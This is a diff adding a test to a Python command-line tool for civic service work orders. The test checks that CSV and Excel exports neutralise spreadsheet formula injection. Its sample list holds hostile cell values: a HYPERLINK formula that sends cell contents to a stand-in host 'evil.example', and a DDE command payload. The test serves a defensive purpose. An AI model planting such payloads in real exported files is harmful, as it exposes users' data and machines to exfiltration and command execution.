@@ -11,6 +11,7 @@ from typer.testing import CliRunner
 
 from wanzheng.cases.store import Case, CaseEvent, UnmaskLog, make_engine, make_sessionmaker
 from wanzheng.cli import app
+from wanzheng.data.cells import write_csv
 
 runner = CliRunner()
 
@@ -256,3 +257,66 @@ def test_export_redacts_free_text_unless_unmasked_and_logged(
     assert row["诉求内容"] == "电梯坏了，请回电13912345678，身份证11010519491231002X"
     assert row["地址"] == "演示街道东区3号楼2单元501室"
     assert _count(database_url, UnmaskLog) == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
+    "+1+1 路灯坏了",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1) 噪音扰民",
+    "'=已经带引号的文字",
+]
+
+
+def test_export_writes_formula_text_as_text_and_import_round_trips(
+    database_url: str, tmp_path: Path
+) -> None:
+    # The source file is written the way the project writes files (so "'=…" is stored as is).
+    src = tmp_path / "orders.csv"
+    write_csv(
+        src,
+        ["工单编号", "受理时间", "诉求内容", "地址", "经度", "纬度", "办理状态"],
+        [
+            [f"GD{i}", "2026-09-01 09:15", text, "=A1", 116.3570, 40.0010, "已提交"]
+            for i, text in enumerate(FORMULAS)
+        ],
+    )
+    r = runner.invoke(app, ["cases", "import", str(src), "--database", database_url])
+    assert r.exit_code == 0, r.output
+    xlsx = tmp_path / "out.xlsx"
+    out_csv = tmp_path / "out.csv"
+    for out in (xlsx, out_csv):
+        r = runner.invoke(app, ["cases", "export", "--out", str(out), "--database", database_url])
+        assert r.exit_code == 0, r.output
+    ws = openpyxl.load_workbook(xlsx).active
+    assert ws is not None
+    header = [c.value for c in ws[1]]
+    text_col = header.index("诉求内容")
+    rows = list(ws.iter_rows(min_row=2))
+    assert [row[text_col].value for row in rows] == ["'" + t for t in FORMULAS]
+    for row in rows:
+        for cell in row:
+            assert cell.data_type != "f", (cell.coordinate, cell.value)
+            if isinstance(cell.value, str):
+                assert cell.data_type == "s"
+                assert cell.value[0] not in "=+-@\t\r", (cell.coordinate, cell.value)
+        assert row[header.index("地址")].value == "'=A1"
+        assert isinstance(row[header.index("经度")].value, float)  # numbers stay numbers
+    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
+        records = list(csv.DictReader(fh))
+    assert [rec["诉求内容"] for rec in records] == ["'" + t for t in FORMULAS]
+    assert all(rec["地址"] == "'=A1" for rec in records)
+    # Import the export back: the apostrophe added against formulas is removed again.
+    engine = make_engine(database_url, pool_size=1)
+    with make_sessionmaker(engine)() as s:
+        before = {c.id for c in s.scalars(select(Case)).all()}
+    for exported in (xlsx, out_csv):
+        r = runner.invoke(app, ["cases", "import", str(exported), "--database", database_url])
+        assert r.exit_code == 0, r.output
+    with make_sessionmaker(engine)() as s:
+        back = [c for c in s.scalars(select(Case).order_by(Case.id)).all() if c.id not in before]
+    engine.dispose()
+    # the exported 工单编号 is the case id: both files carry the same numbers, so the
+    # second import skips every row as already imported
+    assert [c.text for c in back] == FORMULAS
+    assert [c.address for c in back] == ["=A1"] * len(FORMULAS)
